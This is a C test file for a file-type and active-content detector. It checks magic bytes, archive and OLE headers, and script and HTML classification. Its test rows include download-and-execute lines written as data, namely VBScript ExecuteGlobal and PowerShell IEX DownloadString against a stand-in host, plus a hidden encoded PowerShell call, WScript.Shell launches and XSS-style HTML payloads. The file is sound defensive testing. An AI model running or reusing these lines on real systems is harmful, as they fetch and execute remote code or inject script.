/* What a file is by its bytes: rows of beginnings, some larger things built here, and honest texts that must stay text. */
#include "check.h"
#include "read/filetype.h"

static struct arena arena;
static struct work work;

#define S(literal) literal, sizeof(literal) - 1
static const struct { const char *bytes; size_t n; enum file_type type; } rows[] = {
    { S(""),                                                        FILE_EMPTY },
    { S("%PDF-1.7\n1 0 obj\n"),                                     FILE_PDF },
    { S("\xef\xbb\xbf%PDF-1.4\n1 0 obj\n"),                         FILE_PDF },
    { S("{\\rtf1\\ansi hello}"),                                    FILE_RTF },
    { S("\x1f\x8b\x08\0\0\0\0\0"),                                  FILE_GZIP },
    { S("BZh91AY&SY\1\2"),                                          FILE_BZIP2 },
    { S("\xfd" "7zXZ\0\0\4"),                                       FILE_XZ },
    { S("\x28\xb5\x2f\xfd\1\2"),                                    FILE_ZSTD },
    { S("7z\xbc\xaf\x27\x1c\0\4"),                                  FILE_SEVENZIP },
    { S("Rar!\x1a\7\0abc"),                                         FILE_RAR },
    { S("Rar!\x1a\7\1\0abc"),                                       FILE_RAR },
    { S("MSCF\0\0\0\0abc"),                                         FILE_CAB },
    { S("\x31\x31\x31\0\0\x90\0**ACE**\x14"),                       FILE_ACE },
    { S("\x60\xea\x2b\0\x22\x0b\1\x0b\x10\0\2"),                    FILE_ARJ },
    { S("\x24\x12-lh5-\x10\0\0\0\x10\0\0\0\0\0\0\0\x20\1\5a.txt"),  FILE_LZH },
    { S("\x24\x12-lz4-\x10\0\0\0\x10\0\0\0\0\0\0\0\x20\2\5a.txt"),  FILE_LZH },
    { S("MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff\0\0"),                    FILE_PE },
    { S("MZ"),                                                      FILE_TEXT },
    { S("\x7f" "ELF\2\1\1\0"),                                      FILE_ELF },
    { S("\xcf\xfa\xed\xfe\7\0\0\1"),                                FILE_MACHO },
    { S("\xca\xfe\xba\xbe\0\0\0\2"),                                FILE_MACHO },
    { S("\xca\xfe\xba\xbe\0\0\0\x34"),                              FILE_CLASS },
    { S("dex\n035\0"),                                              FILE_DEX },
    { S("L\0\0\0\1\x14\2\0\0\0\0\0\xc0\0\0\0\0\0\0F\x9b\0\0\0"),    FILE_LNK },
    { S("ITSF\3\0\0\0"),                                            FILE_CHM },
    { S("\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3"), FILE_ONENOTE },
    { S("vhdxfileM\0"),                                             FILE_VHDX },
    { S("conectix\0\0\0\2"),                                        FILE_VHD },
    { S("\x89PNG\r\n\x1a\n\0\0"),                                   FILE_PNG },
    { S("\xff\xd8\xff\xe0\0\x10JFIF"),                              FILE_JPEG },
    { S("GIF89a\1\0\1\0"),                                          FILE_GIF },
    { S("II*\0\x08\0\0\0"),                                         FILE_TIFF },
    { S("MM\0*\0\0\0\x08"),                                         FILE_TIFF },
    { S("RIFF\x10\0\0\0WEBPVP8 "),                                  FILE_WEBP },
    { S("RIFF\x10\0\0\0WAVEfmt "),                                  FILE_AUDIO },
    { S("RIFF\x10\0\0\0AVI LIST"),                                  FILE_VIDEO },
    { S("\0\0\0\x18" "ftypheic\0\0"),                               FILE_HEIC },
    { S("\0\0\0\x18" "ftypmp42\0\0"),                               FILE_VIDEO },
    { S("ID3\3\0\0\0"),                                             FILE_AUDIO },
    { S("OggS\0\2"),                                                FILE_AUDIO },
    { S("BM\x46\0\0\0\0\0\0\0\x36\0\0\0\x28\0\0\0"),                FILE_BMP },
    { S("\0\0\1\0\1\0\x10\x10\0\0\1\0\x20\0\x68\4\0\0\x16\0\0\0"),  FILE_ICO },
    { S("\xd7\xcd\xc6\x9a\0\0"),                                    FILE_WMF },
    { S("wOF2\0\1\0\0"),                                            FILE_FONT },
    { S("\x78\x9f\x3e\x22\1\0"),                                    FILE_TNEF },
    { S("SQLite format 3\0\x10\0"),                                 FILE_SQLITE },
    { S("\0\1\0\0Standard Jet DB\0"),                               FILE_ACCESS },
    { S("\0\1\0\0Standard ACE DB\0"),                               FILE_ACCESS },
    { S("\x30\x82\5\1\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x02\xa0"), FILE_SMIME },
    { S("\x09\x08\x10\0\0\6\5\0"),                                  FILE_OLE },
    { S("PK\5\6\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0"),              FILE_ZIP },

    /* texts that say what they are */
    { S("BEGIN:VCALENDAR\r\nVERSION:2.0\r\n"),                      FILE_CALENDAR },
    { S("BEGIN:VCARD\r\nVERSION:3.0\r\n"),                          FILE_VCARD },
    { S("-----BEGIN PGP MESSAGE-----\n"),                           FILE_PGP },
    { S("-----BEGIN CERTIFICATE-----\n"),                           FILE_SMIME },
    { S("Received: from a by b\nFrom: a@x.example\nSubject: x\n\nhello\n"), FILE_MAIL },
    { S("MIME-Version: 1.0\nContent-Type: multipart/related;\n\tboundary=x\nDate: x\n\n--x\n"), FILE_MAIL },
    { S("[InternetShortcut]\r\nURL=https://a.example/\r\n"),        FILE_URLFILE },
    { S("[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,2\r\n[InternetShortcut]\r\nURL=x\r\n"), FILE_URLFILE },
    { S("Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\a]\r\n"), FILE_REGFILE },
    { S("REGEDIT4\r\n"),                                            FILE_REGFILE },
    { S("\xff\xfeW\0i\0n\0d\0o\0w\0s\0 \0R\0e\0g\0i\0s\0t\0r\0y\0 \0E\0d\0i\0t\0o\0r\0 \0V\0e\0r\0s\0i\0o\0n\0 \0" "5\0"), FILE_REGFILE },
    { S("; driver\r\n[Version]\r\nSignature=\"$CHICAGO$\"\r\n"),    FILE_INF },
    { S("full address:s:10.0.0.1\r\nprompt for credentials:i:1\r\n"), FILE_RDP },
    { S("screen mode id:i:2\r\nfull address:s:a.example\r\n"),      FILE_RDP },
    { S("WEB\r\n1\r\nhttps://a.example/x\r\n"),                     FILE_IQY },
    { S("ID;PWXL;N;E\r\nP;PGeneral\r\n"),                           FILE_SLK },
    { S("#@~^EQAAAA==\\ko$K6,J4+^VWr@#@&\\BQAAA==^#~@"),            FILE_ENCODED },
    { S("<?php echo 1;"),                                           FILE_PHP },
    { S("#!/bin/sh\necho hello\n"),                                 FILE_SHELL },

    /* markup */
    { S("<html><body>hello</body></html>"),                         FILE_HTML },
    { S("\r\n \t<!DOCTYPE html>\n<title>x</title>"),                FILE_HTML },
    { S("\xef\xbb\xbf<!-- a --><!-- b --><HTML>"),                  FILE_HTML },
    { S("\xff\xfe<\0h\0t\0m\0l\0>\0<\0b\0o\0d\0y\0>\0"),            FILE_HTML },
    { S("<\0h\0t\0m\0l\0>\0<\0b\0o\0d\0y\0>\0"),                    FILE_HTML },
    { S("<script>location='https://a.example'</script>"),           FILE_HTML },
    { S("junk before it\n<html><body onload=x()>"),                 FILE_HTML },
    { S("\1\2\3\4\0\0<html><script>x</script>"),                    FILE_HTML },
    { S("<?xml version=\"1.0\"?>\n<!DOCTYPE svg PUBLIC \"a\" \"b\">\n<svg xmlns=\"x\"/>"), FILE_SVG },
    { S("<!-- drawing -->\n<svg width=\"1\"><script>x</script></svg>"), FILE_SVG },
    { S("<?xml version=\"1.0\"?><note><to>a</to></note>"),          FILE_XML },
    { S("<html><head><hta:application id=a></head>"),               FILE_HTA },
    { S("<script language=vbscript>CreateObject(\"WScript.Shell\").Run \"calc\"</script>"), FILE_HTA },
    { S("<job id=\"a\"><script language=\"JScript\">x()</script></job>"), FILE_WSF },
    { S("<?XML version=\"1.0\"?><scriptlet><registration progid=\"a\"/></scriptlet>"), FILE_WSF },
    { S("<?xml version=\"1.0\"?><libraryDescription xmlns=\"x\"></libraryDescription>"), FILE_LIBRARY },
    { S("<?xml version=\"1.0\"?><asmv1:assembly xmlns:asmv1=\"x\"><deployment install=\"true\"/></asmv1:assembly>"), FILE_APPREF },

    /* scripts */
    { S("var s = new ActiveXObject(\"WScript.Shell\");\ns.Run(\"calc\");\n"), FILE_JSCRIPT },
    { S("eval(String.fromCharCode(118,97,114));"),                  FILE_JSCRIPT },
    { S("var _0x1a=['a','b'];(function(_0x2b){while(--_0x2b){_0x1a.push(_0x1a.shift());}}(3));"), FILE_JSCRIPT },
    { S("// harmless\nvar a = WScript.CreateObject('Scripting.FileSystemObject');\nvar b = unescape('%41');\n"), FILE_JSCRIPT },
    { S("Option Explicit\nDim sh\nSet sh = CreateObject(\"WScript.Shell\")\nsh.Run \"calc.exe\"\n"), FILE_VBSCRIPT },
    { S("On Error Resume Next\nSet x = CreateObject(\"MSXML2.XMLHTTP\")\nx.Open \"GET\", \"http://a.example\", False\nx.Send\nExecuteGlobal x.responseText\n"), FILE_VBSCRIPT },
    { S("' a comment in words that mean nothing at all\n' and another one\nDim a\na = StrReverse(\"x\") & Chr(65) & ChrW(66)\nMsgBox a\n"), FILE_VBSCRIPT },
    { S("$c = New-Object Net.WebClient\nIEX $c.DownloadString(\"http://a.example/x\")\n"), FILE_POWERSHELL },
    { S("powershell -w hidden -enc SQBFAFgA\n"),                    FILE_POWERSHELL },
    { S("param([string]$a)\n$b = Get-ChildItem $a\nWrite-Host $b\nStart-Process $b\n"), FILE_POWERSHELL },
    { S("@echo off\r\nsetlocal\r\ncd %~dp0\r\nstart a.exe\r\n"),    FILE_BATCH },
    { S("@SETLOCAL\r\n@IF EXIST a (\r\n  call a.bat %*\r\n) ELSE (\r\n  exit /b %errorlevel%\r\n)\r\n"), FILE_BATCH },
    { S("\xff\xfev\0a\0r\0 \0s\0=\0n\0e\0w\0 \0A\0c\0t\0i\0v\0e\0X\0O\0b\0j\0e\0c\0t\0(\0'\0W\0S\0c\0r\0i\0p\0t\0.\0S\0h\0e\0l\0l\0'\0)\0;\0"), FILE_JSCRIPT },

    { S("/*! licence */var s = new ActiveXObject(\"WScript.Shell\");s.Run(unescape(\"%41\"));"), FILE_JSCRIPT },
    { S("/* a comment\nthat goes on */ var s = new ActiveXObject(\"WScript.Shell\");\ns.Run(\"calc\");\n"), FILE_JSCRIPT },
    { S("var a = 1;\rvar s = new ActiveXObject(\"WScript.Shell\");\rs.Run(\"calc\");\r"), FILE_JSCRIPT },

    /* honest texts */
    { S("お世話になっております。\r\n見積書を添付いたします。\r\nご確認ください。\r\n"), FILE_TEXT },
    { S("Dear all,\n\nplease set the function of the next call, then return it.\nWhile we wait, try to replace the document.\n"), FILE_TEXT },
    { S("\x1b$B$3$s$K$A$O\x1b(B\r\n"),                              FILE_TEXT },
    { S("\x82\xb1\x82\xf1\x82\xc9\x82\xbf\x82\xcd\r\n"),            FILE_TEXT },
    { S("\xff\xfeS0\x93" "0k0a0o0\r\0\n\0S0\x93" "0k0a0o0"),        FILE_TEXT },
    { S("患者番号,氏名,日付\r\n0001,試験太郎,2024-05-01\r\n0002,試験花子,2024-05-02\r\n"), FILE_TEXT },
    { S("id,name,value\n1,a,=SUM(A1)\n2,b,3\n"),                    FILE_TEXT },
    { S("MZ-80の思い出\n昔のパソコンの話です。\n"),                  FILE_TEXT },
    { S("The header begins with %PDF-1.4 and the rest is binary.\n"), FILE_TEXT },
    { S("Hi,\n\nI get an error from this script:\n\n  var s = new ActiveXObject(\"WScript.Shell\");\n  s.Run(\"calc\");\n\n"
        "What is wrong with it? It worked last week on another machine.\n\nThanks\nTaro\n"), FILE_TEXT },
    { S("> Set sh = CreateObject(\"WScript.Shell\")\n> sh.Run \"calc.exe\"\n> Dim a\nThis does not work on the new server.\n"), FILE_TEXT },
    { S("--- a/x.js\n+++ b/x.js\n@@ -1,2 +1,2 @@\n-var a = unescape(b);\n+var a = eval(b);\n function f() {\n"), FILE_TEXT },
    { S("#include <stdio.h>\nint main(void)\n{\n    const char *a = \"x\";\n    while (*a)\n        putchar(*a++);\n    return 0;\n}\n"), FILE_TEXT },
    { S("import os\ndef f(a):\n    return a.split(',')\nprint(f('a,b'))\n"), FILE_TEXT },
    { S("From: Taro\nSent: Monday\nTo: Hanako\nSubject: x\n\nquoted letter\n"), FILE_TEXT },
    { S("Yamada: hello\nSuzuki: hello\n"),                          FILE_TEXT },
    { S("{ \"a\": [1, 2, 3], \"b\": null }\n"),                     FILE_TEXT },
    { S("[2024-05-01] started\n[2024-05-02] stopped\n"),            FILE_TEXT },
    { S("begin:\n  a = 1\n  b = 2\n"),                              FILE_TEXT },
    { S("1 < 2 and 3 > 2, <b>not</b> a page\n"),                    FILE_TEXT },
    { S("コマンドは @echo off と setlocal です。\nこの行の説明を読んでください。\n"), FILE_TEXT },
    { S("\x01\x02\x03\x04\x05\x06\x07\x0e\x0f\x10"),                FILE_UNKNOWN },
    { S("\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0"),                        FILE_UNKNOWN },
};

static char big[64 << 10];

static str with(size_t n, size_t at, const char *what, size_t length)
{
    memset(big, 0, sizeof big);
    memcpy(big + at, what, length);
    return str_from(big, n);
}

static enum file_type type_at(size_t n, size_t at, const char *what, size_t length)
{
    return file_type_of(with(n, at, what, length), &work);
}

/* Comments do not use up what is looked at, neither does a long line hide what comes behind it. */
static void check_long_scripts(void)
{
    static const char code[] = "\nvar s = new ActiveXObject(\"WScript.Shell\");\ns.Run(unescape(\"%41\"));\n";
    size_t n = sizeof big - sizeof code;

    for (size_t i = 0; i < n; i++)
        big[i] = i % 80 == 79 ? '\n' : i % 80 < 2 ? '/' : 'a';
    memcpy(big + n, code, sizeof code);
    CHECK(file_type_of(str_from(big, n + sizeof code - 1), &work) == FILE_JSCRIPT);
    for (size_t i = 0; i < n; i++)
        big[i] = i % 9 == 8 ? ';' : "a=b(12);"[i % 9];
    memcpy(big + n, code, sizeof code);
    CHECK(file_type_of(str_from(big, n + sizeof code - 1), &work) == FILE_JSCRIPT);
    for (size_t i = 0; i < n; i++)
        big[i] = i % 60 == 59 ? '\n' : i % 6 == 5 ? ' ' : 'a';
    memcpy(big + n, code, sizeof code);
    CHECK(file_type_of(str_from(big, n + sizeof code - 1), &work) == FILE_TEXT);
}

/* A text of 32 KiB is not looked at byte by byte more than a few times: counted, so that it holds on any machine. */
static void check_cost(void)
{
    struct work w = { 0 };

    for (size_t i = 0; i < sizeof big; i++)
        big[i] = i % 60 == 59 ? '\n' : i % 6 == 5 ? ' ' : 'a';
    file_type_of(str_from(big, 32 << 10), &w);
    CHECK(work_units(&w) < 5 * (32 << 10));
}

static void check_far_magics(void)
{
    CHECK(type_at(sizeof big, 0x8001, S("CD001")) == FILE_ISO);
    CHECK(type_at(sizeof big, 0x8801, S("CD001")) == FILE_ISO);
    CHECK(type_at(sizeof big, 0x9001, S("CD001")) == FILE_ISO);
    CHECK(type_at(sizeof big, 0x8801, S("NSR02")) == FILE_UDF);
    CHECK(type_at(sizeof big, 0x9001, S("NSR03")) == FILE_UDF);
    CHECK(type_at(4096, 4096 - 512, S("conectix")) == FILE_VHD);
    CHECK(type_at(4096, 4096 - 511, S("conectix")) == FILE_VHD);
    CHECK(type_at(4096, 4096 - 512, S("koly")) == FILE_DMG);
    CHECK(type_at(512, 128, S("DICM")) == FILE_DICOM);
    CHECK(type_at(1024, 257, S("ustar")) == FILE_TAR);
    CHECK(type_at(1024, 40, S(" EMF")) == FILE_WMF);
    CHECK(type_at(1024, 0, S("conectiy")) == FILE_UNKNOWN);
}

static void check_built(void)
{
    uint32_t sum = 8 * ' ';

    with(1024, 0, S("MZ"));
    big[60] = 0x80;
    memcpy(big + 0x80, "PE\0\0", 4);
    CHECK(file_type_of(str_from(big, 1024), &work) == FILE_PE);

    with(1024, 0, S("a.txt"));          /* the tar of 1979: no word, only a sum */
    memcpy(big + 100, "0000644", 7);
    for (size_t i = 0; i < 512; i++)
        sum += (unsigned char)big[i];
    snprintf(big + 148, 8, "%06o", sum);
    CHECK(file_type_of(str_from(big, 1024), &work) == FILE_TAR);
    big[0] = 'b';
    CHECK(file_type_of(str_from(big, 1024), &work) != FILE_TAR);

    with(2048, 54, S("FAT12   "));
    big[510] = 0x55;
    big[511] = (char)0xaa;
    CHECK(file_type_of(str_from(big, 2048), &work) == FILE_FATDISK);
}

/* An OLE file of one FAT sector and one directory sector with the entries given. */
struct entry { const char *name; unsigned char kind; const char *clsid; };

static str ole(const struct entry *entries, size_t n)
{
    memset(big, 0, 4096);
    memcpy(big, "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", 8);
    big[30] = 9;
    big[44] = 1;
    big[48] = 1;                        /* the directory is sector 1, the FAT sector 0 */
    memset(big + 512, 0xff, 512);
    memcpy(big + 512 + 4, "\xfe\xff\xff\xff", 4);
    for (size_t i = 0; i < n; i++) {
        char *e = big + 1024 + 128 * i;
        size_t length = strlen(entries[i].name);

        for (size_t k = 0; k < length; k++)
            e[2 * k] = entries[i].name[k];
        e[64] = (char)(2 * length + 2);
        e[66] = (char)entries[i].kind;
        if (entries[i].clsid)
            memcpy(e + 80, entries[i].clsid, 16);
    }
    return str_from(big, 2048);
}

static void check_ole(void)
{
    static const char installer[] = "\x84\x10\x0c\0\0\0\0\0\xc0\0\0\0\0\0\0F";
    const struct entry plain[] = { { "Root Entry", 5, NULL }, { "WordDocument", 2, NULL } };
    const struct entry msi[] = { { "Root Entry", 5, installer } };
    const struct entry msg[] = { { "Root Entry", 5, NULL }, { "__properties_version1.0", 2, NULL } };
    const struct entry vba[] = { { "Root Entry", 5, NULL }, { "Macros", 1, NULL }, { "_VBA_PROJECT", 2, NULL } };
    const struct entry locked[] = { { "Root Entry", 5, NULL }, { "EncryptedPackage", 2, NULL } };
    str b;

    b = ole(plain, 2);
    CHECK(file_type_of(b, &work) == FILE_OLE && file_traits(&arena, &work, FILE_OLE, b) == 0);
    b = ole(msi, 1);
    CHECK(file_type_of(b, &work) == FILE_MSI);
    b = ole(msg, 2);
    CHECK(file_type_of(b, &work) == FILE_MSG);
    b = ole(vba, 3);
    CHECK(file_type_of(b, &work) == FILE_OLE && file_traits(&arena, &work, FILE_OLE, b) == PART_MACRO);
    b = ole(locked, 2);
    CHECK(file_type_of(b, &work) == FILE_OOXML && file_traits(&arena, &work, FILE_OOXML, b) == PART_ENCRYPTED);
    b = ole(plain, 2);                  /* a FAT that turns in a circle */
    memcpy(big + 512 + 4, "\1\0\0\0", 4);
    CHECK(file_type_of(b, &work) == FILE_OLE);
}

static const struct { const char *bytes; size_t n; enum file_type type; uint32_t traits; } traits[] = {
    { S("<html><script>x()</script>"),                                   FILE_HTML, PART_ACTIVE },
    { S("<html><SCRIPT src=//a.example/x.js></SCRIPT>"),                 FILE_HTML, PART_ACTIVE },
    { S("<body onload=\"go('x')\">"),                                    FILE_HTML, PART_ACTIVE },
    { S("<img src=x onerror=alert(1)>"),                                 FILE_HTML, PART_ACTIVE },
    { S("<img/onerror='location=1'/src=x>"),                             FILE_HTML, PART_ACTIVE },
    { S("<a href=\"javascript:x()\">y</a>"),                             FILE_HTML, PART_ACTIVE },
    { S("<iframe srcdoc=\"x\">"),                                        FILE_HTML, PART_ACTIVE },
    { S("<svg xmlns=\"x\"><script>x()</script></svg>"),                  FILE_SVG,  PART_ACTIVE },
    { S("<x><h:script xmlns:h=\"http://www.w3.org/1999/xhtml\">a</h:script></x>"), FILE_XML, PART_ACTIVE },
    { S("<script data-x=json>JSON.parse(x)</script>"),                   FILE_HTML, PART_ACTIVE },
    { S("<script type=\"application/ld+json\">{\"@type\":\"x\"}</script>"), FILE_HTML, 0 },
    { S("<p>Set onload = x (later), on Monday.</p>"),                    FILE_HTML, 0 },
    { S("<table><tr><td style=\"font-size:12px\">本文</td></tr></table>"), FILE_HTML, 0 },
    { S("<a href=\"https://a.example/?on=1&once=(2)\">x</a>"),           FILE_HTML, 0 },
    { S("<p class=\"x\" once=\"y\">hello (world)</p>"),                  FILE_HTML, 0 },
    { S("<p>x</p><img src=x onerror \n\t = \"alert(1)\">"),              FILE_HTML, PART_ACTIVE },
    { S("<img src='x'ONERROR=alert(1)>"),                                FILE_HTML, PART_ACTIVE },
    { S("<img alt=\"a>b\" onerror=\"location='x'\">"),                   FILE_HTML, PART_ACTIVE },
    { S("<a href=VBScript:x>y</a>"),                                     FILE_HTML, PART_ACTIVE },
    { S("<svg:svg><svg:SCRIPT>x()</svg:SCRIPT></svg:svg>"),              FILE_SVG,  PART_ACTIVE },
    { S("<script type=\"application/json\">{\"a\":\"javascript:x onload=y()\"}</script>"), FILE_HTML, 0 },
    { S("<script type=\"application/json\">{}</script><p onclick=x()>"), FILE_HTML, PART_ACTIVE },
    { S("javascript: and onload=x() before any <p>element</p>"),         FILE_HTML, 0 },
    { S("< a onload=x()>"),                                              FILE_HTML, 0 },
    { S("<p abonload=x() on=y() data-onload=z()>"),                      FILE_HTML, 0 },
    { S("var s = 1;"),                                                   FILE_JSCRIPT, PART_ACTIVE },
    { S("\x24\x12-lh5-"),                                                FILE_LZH, PART_UNINSPECTED },
    { S("GIF89a"),                                                       FILE_GIF, 0 },
    { S("PK\3\4"),                                                       FILE_ZIP, PART_UNINSPECTED },
    { S("Rar!\x1a\7\0\0\0\x73\x80\0\x0d\0\0\0\0\0\0\0"),                 FILE_RAR, PART_ENCRYPTED | PART_UNINSPECTED },
    { S("Rar!\x1a\7\0\0\0\x73\0\0\x0d\0\0\0\0\0\0\0\0\0\x74\4\x80\x20\0\0\0\0\0"), FILE_RAR, PART_ENCRYPTED | PART_UNINSPECTED },
    { S("Rar!\x1a\7\0\0\0\x73\0\0\x0d\0\0\0\0\0\0\0\0\0\x7b\0\0\7\0"),   FILE_RAR, PART_UNINSPECTED },
    { S("Rar!\x1a\7\1\0\0\0\0\0\2\4\0\1"),                               FILE_RAR, PART_ENCRYPTED | PART_UNINSPECTED },
    { S("Rar!\x1a\7\1\0\0\0\0\0\2\5\0\1"),                               FILE_RAR, PART_UNINSPECTED },
    { S("7z\xbc\xaf\x27\x1c\0\4\0\0\0\0\0\0\0\0\0\0\0\0\6\0\0\0\0\0\0\0\0\0\0\0\x17\6\x06\xf1\7\1"), FILE_SEVENZIP, PART_ENCRYPTED | PART_UNINSPECTED },
    { S("7z\xbc\xaf\x27\x1c\0\4\0\0\0\0\0\0\0\0\0\0\0\0\4\0\0\0\0\0\0\0\0\0\0\0\1\4\6\0"), FILE_SEVENZIP, PART_UNINSPECTED },
    { S("\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d"),                             FILE_ONENOTE, PART_UNINSPECTED },
};

int main(void)
{
    CHECK(arena_open(&arena, 1 << 26, NULL));
    for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
        enum file_type got = file_type_of(str_from(rows[i].bytes, rows[i].n), &work);

        if (!CHECK_ROW(got == rows[i].type, file_type_names[rows[i].type]))
            printf("#   row %zu \"%.40s\": got %s\n", i, rows[i].bytes, file_type_names[got]);
    }
    check_far_magics();
    check_long_scripts();
    check_cost();
    check_built();
    check_ole();
    for (size_t i = 0; i < sizeof traits / sizeof traits[0]; i++) {
        uint32_t got = file_traits(&arena, &work, traits[i].type, str_from(traits[i].bytes, traits[i].n));

        if (!CHECK_ROW(got == traits[i].traits, traits[i].bytes))
            printf("#   row %zu: got %x want %x\n", i, got, traits[i].traits);
    }
    return check_done();
}
